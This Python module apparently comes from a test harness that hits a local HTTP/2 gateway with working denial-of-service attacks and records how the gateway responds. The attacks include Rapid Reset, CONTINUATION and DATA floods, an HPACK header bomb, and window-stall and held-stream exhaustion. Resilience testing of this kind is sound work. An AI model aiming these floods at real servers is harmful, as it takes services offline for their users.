"""The attacks: each a function that misbehaves over HTTP/2 until a time, and says what became of it.

Heads are encoded and connections opened by the h2 package; what it refuses to send are raw frames.
An attack counts what it has sent and how many of its connections the gateway has ended, and notes
how long its longest connection lived.
"""

import collections
import itertools
import selectors
import socket
import ssl
import struct
import time

import h2.config
import h2.connection
import h2.settings
import hpack

HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION, DATA, PRIORITY = 1, 3, 4, 6, 8, 9, 0, 2
END_STREAM, END_HEADERS = 1, 4
BODY = b'{"number":"+44 7400 123456"}'
# Plain bytes of one record.
RECORD_BYTES = 1 << 14
# How long a connection that was ended may take to say so.
PATIENCE_SECONDS = 5
# How much longer resets go on than the other attacks until there were enough of them, on a machine that is busy with others.
RESETS_PATIENCE_SECONDS = 25
# Connections that withhold their windows, with 100 lookups each. Their token is good, so that each lookup in
# flight costs what any does, some 8 KiB with its connection to the backend; what is looked at is the rest.
HOLDING = 15
# Connections that hold streams open, with as many streams as there may be.
STREAM_HOLDERS, STREAMS = 52, 100
# Connections that reset at the same time: the gateway puts off the end of each.
RESETTING = 32


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def client_context(protocol):
    """TLS without verification, and one protocol to choose from."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context


class Tally:
    """What an attack has done so far."""

    def __init__(self):
        self.sent = self.connections = self.ended = 0
        self.longest = 0.0

    def report(self):
        return {"sent": self.sent, "connections": self.connections, "ended": self.ended, "longest": self.longest}


class Attacker:
    """One hostile connection after the other."""

    def __init__(self, target, until):
        self.target, self.until, self.tally = target, until, Tally()
        self.context = client_context("h2") if target["tls"] else None

    def running(self, beyond=0.0):
        return time.monotonic() < self.until + beyond

    def connect(self, settings=None):
        """Opens a connection with the h2 package: the socket and the package's state."""
        raw = socket.socket()
        if self.target["small_buffers"]:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        raw.settimeout(PATIENCE_SECONDS)
        raw.connect(("127.0.0.1", self.target["port"]))
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self.context:
            raw = self.context.wrap_socket(raw, server_hostname="localhost")
        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        connection.initiate_connection()
        if settings:
            # A second frame in the same write. What is set before the first goes into neither.
            connection.update_settings(settings)
        raw.sendall(connection.data_to_send())
        self.tally.connections += 1
        self.opened = time.monotonic()
        return raw, connection

    def send(self, sock, data, count):
        """Sends frames; whether the gateway still takes them. What it says is thrown away."""
        try:
            sock.sendall(data)
            self.tally.sent += count
            sock.settimeout(0.0)
            try:
                while True:
                    if not sock.recv(1 << 16):
                        return self.over(sock, True)
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
            sock.settimeout(PATIENCE_SECONDS)
            return True
        except OSError:
            return self.over(sock, True)

    def over(self, sock, ended):
        self.tally.ended += ended
        self.tally.longest = max(self.tally.longest, time.monotonic() - self.opened)
        sock.close()
        return False

    def flood(self, begin, blob, count, settings=None):
        """Sends `begin` and then the blob again and again, on one connection after the other."""
        while self.running():
            try:
                sock, connection = self.connect(settings)
            except OSError:
                continue
            alive = self.send(sock, begin(connection), 0)
            while alive and self.running():
                alive = self.send(sock, blob, count)
            if alive:
                self.over(sock, False)

    def head(self, *extra):
        return [(":method", "POST"), (":scheme", "https" if self.context else "http"),
                (":authority", "api.example.com"), (":path", "/phone/validate/v2"),
                ("auth-token", self.target["token"]), ("content-type", "application/json"), *extra]


def rapid_reset(attacker):
    """Opens and resets within one write: `h2` has not even given the requests away."""
    block = hpack.Encoder().encode(attacker.head())
    reset = struct.pack(">I", 8)
    pair = lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, reset)
    # As many as one record of TLS holds, since the gateway may end the connection after the first.
    count = RECORD_BYTES // len(pair(1))
    blob = b"".join(map(pair, range(1, 2 * count, 2)))
    least = attacker.target["least_resets"]
    held = collections.deque()
    while held or attacker.running():
        more = attacker.running() or (attacker.tally.sent < least and attacker.running(RESETS_PATIENCE_SECONDS))
        if more and len(held) < RESETTING:
            try:
                sock, _ = attacker.connect()
            except OSError:
                continue
            if attacker.send(sock, blob, count):
                held.append((sock, attacker.opened))
        else:
            sock, attacker.opened = held.popleft()
            attacker.over(sock, drained(sock, time.monotonic() + PATIENCE_SECONDS))


def late_reset(attacker):
    """Opens, lets the gateway begin the work, and only then resets."""
    block = hpack.Encoder().encode(attacker.head())
    while attacker.running():
        try:
            sock, _ = attacker.connect()
        except OSError:
            continue
        alive, stream = True, 1
        while alive and attacker.running():
            streams = range(stream, stream + 100, 2)
            stream += 100
            alive = attacker.send(sock, b"".join(frame(HEADERS, END_HEADERS, s, block) for s in streams), 0)
            time.sleep(0.003)
            resets = b"".join(frame(RST_STREAM, 0, s, struct.pack(">I", 8)) for s in streams)
            alive = alive and attacker.send(sock, resets, 50)
        if alive:
            attacker.over(sock, False)


def drained(sock, by):
    """Whether the gateway ends the connection by a time."""
    try:
        while True:
            sock.settimeout(max(0.001, by - time.monotonic()))
            if not sock.recv(1 << 16):
                return True
            if time.monotonic() > by:
                return False
    except TimeoutError:
        return False
    except OSError:
        return True


def continuation(attacker):
    """A head that never ends, in frames of a kilobyte and in empty ones."""
    line = hpack.Encoder().encode([("x-filler", "a" * 900)])
    blob = frame(CONTINUATION, 0, 1, line) * 16 + frame(CONTINUATION, 0, 1) * 64
    attacker.flood(lambda _: frame(HEADERS, 0, 1, hpack.Encoder().encode(attacker.head())), blob, 80)


def empty_data(attacker):
    """A body of empty frames, which no window bounds."""
    head = lambda _: frame(HEADERS, END_HEADERS, 1, hpack.Encoder().encode(attacker.head()))
    attacker.flood(head, frame(DATA, 0, 1) * 1000, 1000)


def tiny_data(attacker):
    """A body of single bytes, each with a frame around it."""
    head = lambda _: frame(HEADERS, END_HEADERS, 1, hpack.Encoder().encode(attacker.head()))
    attacker.flood(head, frame(DATA, 0, 1, b"a") * 1000, 1000)


def header_bomb(attacker):
    """Kilobytes that say megabytes: one large line in the table, and a head of references to it."""
    # Lines marked as sensitive stay out of the table, so that its newest entry, which has index 62, is the large one.
    head = hpack.Encoder().encode([(*line, True) for line in attacker.head()])
    plant = head + hpack.Encoder().encode([("x-bomb", "a" * 3900)])
    block = head + b"\xbe" * 15_000
    streams = itertools.count(3, 2)
    while attacker.running():
        try:
            sock, _ = attacker.connect()
        except OSError:
            continue
        alive = attacker.send(sock, frame(HEADERS, END_HEADERS | END_STREAM, 1, plant), 0)
        while alive and attacker.running():
            alive = attacker.send(sock, frame(HEADERS, END_HEADERS | END_STREAM, next(streams), block), 1)
        if alive:
            attacker.over(sock, False)
        streams = itertools.count(3, 2)


def pings(attacker):
    attacker.flood(lambda _: b"", frame(PING, 0, 0, b"12345678") * 1000, 1000)


def settings(attacker):
    blob = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 500 + frame(SETTINGS, 0, 0) * 500
    attacker.flood(lambda _: b"", blob, 1000)


def priorities(attacker):
    """Frames that mean nothing: priorities, and frames of a kind that nobody knows."""
    blob = (frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 1)) + frame(99, 0, 0, b"?")) * 500
    attacker.flood(lambda _: b"", blob, 1000)


def lookups(attacker, streams):
    """Whole requests, each with a stream of its own."""
    block = hpack.Encoder().encode(attacker.head(("content-length", str(len(BODY)))))
    return b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, BODY) for s in streams)


def zero_windows(attacker):
    """Clients that ask for all that they may and never open a window, so that no answer can be sent."""
    held = []
    blob = lookups(attacker, range(1, 200, 2))
    for _ in range(HOLDING):
        sock, _ = attacker.connect({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        if attacker.send(sock, blob, 100):
            held.append((sock, attacker.opened))
    for sock, attacker.opened in held:
        attacker.over(sock, drained(sock, attacker.until + 2 * PATIENCE_SECONDS))


def unread(attacker):
    """Clients with open windows that stop reading from their sockets, and go on asking."""
    held = []
    for _ in range(HOLDING):
        sock, _ = attacker.connect({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1 << 20})
        sock.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
        sock.settimeout(0.0)
        held.append([sock, 1, b"", attacker.opened])
    while held and attacker.running(PATIENCE_SECONDS):
        for entry in list(held):
            sock, stream, rest, opened = entry
            if not rest:
                rest = lookups(attacker, range(stream, stream + 40, 2))
                entry[1] += 40
            # What is not taken comes first the next time: frames stay whole, and TLS wants the same bytes again.
            entry[2] = rest
            try:
                entry[2] = rest[sock.send(rest):]
                attacker.tally.sent += 0 if entry[2] else 20
            except (BlockingIOError, ssl.SSLWantWriteError):
                pass
            except OSError:
                attacker.opened = opened
                attacker.over(sock, True)
                held.remove(entry)
        time.sleep(0.02)


def held_streams(attacker, settings, begin, go_on=lambda sock: None):
    """Connections that send what `begin` gives and are held for as long as they live, as many as there may be."""
    held = []
    while attacker.running():
        if len(held) < STREAM_HOLDERS:
            try:
                sock, _ = attacker.connect(settings)
            except OSError:
                continue
            if attacker.send(sock, begin, STREAMS):
                held.append((sock, attacker.opened))
            continue
        for entry in list(held):
            sock, attacker.opened = entry
            go_on(sock)
            # What the gateway says is read: it may not keep anything because nobody takes it.
            if not attacker.send(sock, b"", 0):
                held.remove(entry)
        time.sleep(0.05)
    for sock, attacker.opened in held:
        attacker.over(sock, False)


def kept_heads(attacker):
    """Heads of thousands of tiny lines, 33 bytes each by the count of HTTP/2 and a byte in the frame, that are refused
    and whose streams are left open."""
    head = hpack.Encoder().encode([(*line, True) for line in attacker.head()])
    plant = frame(HEADERS, END_HEADERS, 1, head + b"\x40\x01a\x00")
    block = head + b"\xbe" * 7_700
    attacks = (frame(HEADERS, END_HEADERS, stream, block) for stream in range(3, 2 * STREAMS + 1, 2))
    held_streams(attacker, None, plant + b"".join(attacks))


def held_places(attacker):
    """Requests that are refused at once and never end."""
    head = hpack.Encoder().encode([(":method", "POST"), (":scheme", "http"), (":authority", "a"), (":path", "/x")])
    held_streams(attacker, None,
                 b"".join(frame(HEADERS, END_HEADERS, stream, head) for stream in range(1, 2 * STREAMS, 2)))


def shared_pages(attacker):
    """Pages that nobody reads, and nobody needs a token for."""
    head = hpack.Encoder().encode([(":method", "GET"), (":scheme", "http"), (":authority", "a"),
                                   (":path", "/openapi.json")])
    held_streams(attacker, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0},
                 b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, head) for s in range(1, 2 * STREAMS, 2)))


def inside_each_limit(attacker):
    """As much of everything as is allowed, at once: lookups with windows that are shut, large heads with bodies that
    come byte by byte, requests that are refused and do not end, and pings."""
    large = [("x-" + str(number), "a" * 200) for number in range(50)]
    slow = hpack.Encoder().encode([(*line, True) for line in attacker.head(*large)])
    refused = hpack.Encoder().encode([(*line, True) for line in attacker.head() if line[0] != "auth-token"])
    begin = lookups(attacker, range(1, 67, 2))
    begin += b"".join(frame(HEADERS, END_HEADERS, stream, slow) for stream in range(67, 133, 2))
    begin += b"".join(frame(HEADERS, END_HEADERS, stream, refused) for stream in range(133, 2 * STREAMS, 2))
    drip = b"".join(frame(DATA, 0, stream, b" ") for stream in range(67, 133, 2)) + frame(PING, 0, 0, b"12345678")

    def go_on(sock):
        try:
            sock.sendall(drip)
        except OSError:
            pass

    held_streams(attacker, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}, begin, go_on)


def asking(attacker):
    """No attack: clients that ask for as much at once as those who withhold their windows, and read the answers."""
    blob = lookups(attacker, range(1, 200, 2))
    reading = selectors.DefaultSelector()
    for _ in range(HOLDING):
        sock, _ = attacker.connect({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1 << 20})
        sock.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)) + blob)
        attacker.tally.sent += 100
        sock.setblocking(False)
        reading.register(sock, selectors.EVENT_READ)
    while reading.get_map() and attacker.running():
        for key, _ in reading.select(timeout=0.1):
            try:
                while key.fileobj.recv(1 << 18):
                    pass
            except (BlockingIOError, ssl.SSLWantReadError):
                continue
            except OSError:
                pass  # A reset is an end as well.
            reading.unregister(key.fileobj)
            attacker.over(key.fileobj, True)


# Each with whether the gateway has to end its connections itself, and what it is compared with, at the gateway.
# Without that, it is compared with itself, at a process that takes next to nothing.
ATTACKS = [
    (rapid_reset, True, None),
    (late_reset, True, None),
    (continuation, True, None),
    (empty_data, True, None),
    (tiny_data, True, None),
    (header_bomb, True, None),
    (pings, True, None),
    (settings, True, None),
    (priorities, True, None),
    (zero_windows, False, asking),
    (unread, True, asking),
    (kept_heads, False, None),
    (held_places, False, None),
    (shared_pages, False, None),
    (inside_each_limit, False, asking),
]
